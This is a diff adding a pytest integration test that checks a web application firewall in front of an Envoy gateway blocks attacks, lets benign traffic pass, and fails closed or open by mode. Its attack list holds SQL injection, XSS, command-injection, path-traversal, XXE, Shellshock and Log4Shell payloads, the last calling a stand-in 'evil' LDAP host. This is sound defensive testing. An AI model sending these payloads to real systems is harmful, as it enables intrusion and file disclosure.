@@ -1,0 +1,239 @@
+"""The WAF through a real gateway: a control plane, the WAF service (its rules over xDS), an
+Envoy asking it about each inspected request, and the echo backend that must never see what
+was refused."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import urllib.parse
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from controlplane.echo import EchoServer
+from tests.harness import EnvoyProcess, Response, free_port, raw_request, stop_process
+from tests.xds_harness import REPO, ControlPlaneProcess, http_get, start_envoy, wait_for
+
+pytestmark = pytest.mark.envoy
+
+SPEC = """
+openapi: 3.0.3
+info: {title: shop, version: "1"}
+servers: [{url: /shop}]
+paths:
+  /search:
+    get: {operationId: search, responses: {"200": {description: ok}}}
+  /items:
+    post: {operationId: createItem, responses: {"200": {description: ok}}}
+  /pages:
+    post: {operationId: updatePage, responses: {"200": {description: ok}}}
+  /import:
+    post: {operationId: importXml, responses: {"200": {description: ok}}}
+  /notes:
+    post: {operationId: addNote, responses: {"200": {description: ok}}}
+  /health:
+    get: {operationId: health, responses: {"200": {description: ok}}}
+"""
+
+
+@dataclass
+class WafService:
+    workdir: Path
+    xds: str
+    port: int = field(default_factory=free_port)
+    admin_port: int = field(default_factory=free_port)
+    proc: subprocess.Popen[bytes] | None = None
+
+    @property
+    def log_path(self) -> Path:
+        return self.workdir / f"waf-{self.port}.log"
+
+    def start(self) -> WafService:
+        with self.log_path.open("ab") as log:
+            self.proc = subprocess.Popen(
+                [
+                    *(sys.executable, "-m", "controlplane", "waf", "--listen", f"127.0.0.1:{self.port}"),
+                    *("--xds", self.xds, "--insecure", "--admin-port", str(self.admin_port)),
+                ],
+                stdout=log,
+                stderr=subprocess.STDOUT,
+                cwd=REPO,
+            )
+        wait_for(lambda: http_get(self.admin_port, "/ready")[0] == 200, 30, "the WAF service's rules")
+        return self
+
+    def logs(self) -> str:
+        return self.log_path.read_text()
+
+    def findings(self) -> list[dict[str, Any]]:
+        out = []
+        for line in self.logs().splitlines():
+            if "controlplane.waf.findings" in line:
+                out.append(json.loads(line.split("controlplane.waf.findings: ", 1)[1]))
+        return out
+
+    def requests(self) -> float:
+        _code, text = http_get(self.admin_port, "/metrics")
+        return sum(
+            float(line.rsplit(" ", 1)[1]) for line in text.decode().splitlines() if line.startswith("waf_requests_total{")
+        )
+
+    def stop(self) -> None:
+        stop_process(self.proc)
+
+
+def policy(gateway: int, backend: int, waf: int) -> str:
+    return f"""
+apiVersion: controlplane.dev/v1
+kind: GatewayPolicy
+listeners: [{{name: public, address: 127.0.0.1, port: {gateway}}}]
+upstreams: [{{name: backend, endpoints: ["127.0.0.1:{backend}"]}}]
+waf:
+  service: {{endpoints: ["127.0.0.1:{waf}"], timeout: 2s}}
+  mode: prevent
+  maxBodyBytes: 4096
+apis:
+  - name: shop
+    spec: spec.yaml
+    upstream: backend
+    operations:
+      updatePage: {{waf: {{exclude: {{locations: ["body:/html"], families: [xss]}}}}}}
+      addNote: {{waf: {{mode: detect}}}}
+      health: {{waf: {{mode: "off"}}}}
+"""
+
+
+@dataclass
+class Setup:
+    gateway_port: int
+    echo: EchoServer
+    waf: WafService
+    plane: ControlPlaneProcess
+    envoy: EnvoyProcess
+
+    def send(self, method: str, target: str, body: bytes = b"", headers: dict[str, str] | None = None) -> Response:
+        lines = [f"{method} {target} HTTP/1.1", "Host: shop.test", "Connection: close"]
+        lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
+        if body or method == "POST":
+            lines.append(f"Content-Length: {len(body)}")
+        return raw_request(self.gateway_port, ("\r\n".join(lines) + "\r\n\r\n").encode() + body)
+
+
+@pytest.fixture(scope="module")
+def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
+    workdir = tmp_path_factory.mktemp("waf")
+    echo = EchoServer().start()
+    config = workdir / "config"
+    config.mkdir()
+    gateway_port, waf_port = free_port(), free_port()
+    (config / "spec.yaml").write_text(SPEC)
+    (config / "policy.yaml").write_text(policy(gateway_port, echo.port, waf_port))
+    plane = ControlPlaneProcess([config], workdir).start()
+    waf = WafService(workdir, f"127.0.0.1:{plane.xds_port}", port=waf_port).start()
+    envoy = start_envoy(workdir, plane)
+    s = Setup(gateway_port, echo, waf, plane, envoy)
+    wait_for(lambda: s.send("GET", "/shop/search?q=shoes").status == 200, 20, "the gateway")
+    yield s
+    envoy.stop()
+    waf.stop()
+    plane.stop()
+    echo.shutdown()
+
+
+def q(value: str) -> str:
+    return urllib.parse.quote(value, safe="")
+
+
+ATTACKS = [
+    ("sqli", "GET", "/shop/search?q=" + q("1' OR '1'='1' --"), b"", {}),
+    ("sqli-double-encoded", "GET", "/shop/search?q=" + q(q("' UNION SELECT password FROM users--")), b"", {}),
+    ("xss-json", "POST", "/shop/items", b'{"name": "<script>alert(1)</script>"}', {"Content-Type": "application/json"}),
+    ("xss-json-escaped", "POST", "/shop/items", b'{"name": "\\u003cimg src=x onerror=alert(1)\\u003e"}', {"Content-Type": "application/json"}),
+    ("cmdi-form", "POST", "/shop/items", b"name=x%3B%20cat%20%2Fetc%2Fpasswd", {"Content-Type": "application/x-www-form-urlencoded"}),
+    ("traversal", "GET", "/shop/search?file=" + q("../../../etc/passwd"), b"", {}),
+    ("xxe", "POST", "/shop/import", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', {"Content-Type": "application/xml"}),
+    ("log4shell-header", "GET", "/shop/search?q=x", b"", {"User-Agent": "${${lower:j}ndi:ldap://evil/a}"}),
+    ("shellshock", "GET", "/shop/search?q=x", b"", {"Referer": "() { :; }; /bin/bash -c id"}),
+]
+
+
+@pytest.mark.parametrize(("name", "method", "target", "body", "headers"), ATTACKS, ids=[a[0] for a in ATTACKS])
+def test_prevent_refuses_every_family(
+    setup: Setup, name: str, method: str, target: str, body: bytes, headers: dict[str, str]
+) -> None:
+    before = len(setup.echo.received)
+    resp = setup.send(method, target, body, headers)
+    assert resp.status == 403, (name, resp.status, resp.body[:200])
+    answer = resp.json()
+    assert answer["message"].startswith("refused: the request looks like an attack") and answer["request_id"]
+    assert b"passwd" not in resp.body and b"script" not in resp.body  # no echo of the payload
+    assert len(setup.echo.received) == before
+    logged = [f for f in setup.waf.findings() if f["request_id"] == answer["request_id"]]
+    assert logged and all(f["verdict"] == "refused" and f["operation"] for f in logged), logged
+
+
+def test_benign_requests_pass(setup: Setup) -> None:
+    for method, target, body, headers in [
+        ("GET", "/shop/search?q=" + q("O'Brien's select of union jackets"), b"", {}),
+        ("POST", "/shop/items", b'{"name": "Tom & Jerry", "notes": "size < 10"}', {"Content-Type": "application/json"}),
+        ("POST", "/shop/items", b"name=caf%C3%A9+au+lait", {"Content-Type": "application/x-www-form-urlencoded"}),
+    ]:
+        resp = setup.send(method, target, body, headers)
+        assert resp.status == 200, (target, body, resp.body[:300])
+
+
+def test_detect_mode_logs_and_lets_through(setup: Setup) -> None:
+    resp = setup.send("POST", "/shop/notes", b'{"text": "<script>alert(1)</script>"}', {"Content-Type": "application/json"})
+    assert resp.status == 200
+    request_id = resp.header("x-request-id")
+    found = wait_for(
+        lambda: [f for f in setup.waf.findings() if f["request_id"] == request_id], 5, "the detection in the log"
+    )
+    assert found[0]["verdict"] == "detected" and found[0]["family"] == "xss" and found[0]["operation"] == "shop.addNote"
+    assert "<script>alert(1)</script>" not in json.dumps(found)  # a short snippet, never the payload
+
+
+def test_exclusions_let_a_rich_text_field_carry_html(setup: Setup) -> None:
+    page = {"title": "News", "html": "<p>Hello <script src=/app.js></script></p>"}
+    ok = setup.send("POST", "/shop/pages", json.dumps(page).encode(), {"Content-Type": "application/json"})
+    assert ok.status == 200, ok.body
+    # the exclusion is that field and that family only
+    other = {"title": "<script>alert(1)</script>", "html": "<p>x</p>"}
+    assert setup.send("POST", "/shop/pages", json.dumps(other).encode(), {"Content-Type": "application/json"}).status == 200
+    sqli = {"title": "1' OR '1'='1' --", "html": "<p>x</p>"}
+    assert setup.send("POST", "/shop/pages", json.dumps(sqli).encode(), {"Content-Type": "application/json"}).status == 403
+
+
+def test_a_body_padded_past_the_limit_is_refused_whole(setup: Setup) -> None:
+    before = len(setup.echo.received)
+    padded = b'{"pad": "' + b"a" * 8000 + b'", "name": "<script>alert(1)</script>"}'
+    resp = setup.send("POST", "/shop/items", padded, {"Content-Type": "application/json"})
+    assert resp.status == 413
+    assert len(setup.echo.received) == before
+
+
+def test_an_operation_with_the_waf_off_is_never_sent_to_it(setup: Setup) -> None:
+    before = setup.waf.requests()
+    assert setup.send("GET", "/shop/health?x=" + q("' OR 1=1--")).status == 200
+    assert setup.send("GET", "/shop/search?q=ok").status == 200  # a positive signal that counting works
+    wait_for(lambda: setup.waf.requests() == before + 1, 5, "the one inspected request counted")
+
+
+def test_failure_modes(setup: Setup) -> None:
+    """Prevent fails closed (503), detect fails open (the request goes on)."""
+    setup.waf.stop()
+    try:
+        closed = setup.send("GET", "/shop/search?q=shoes")
+        assert closed.status == 503 and closed.header("retry-after") == "1", closed.body
+        assert closed.json()["message"] == "the request cannot be inspected now; try again shortly"
+        opened = setup.send("POST", "/shop/notes", b'{"text": "hi"}', {"Content-Type": "application/json"})
+        assert opened.status == 200
+    finally:
+        setup.waf.proc = None
+        setup.waf.start()
+    wait_for(lambda: setup.send("GET", "/shop/search?q=shoes").status == 200, 10, "the service back")
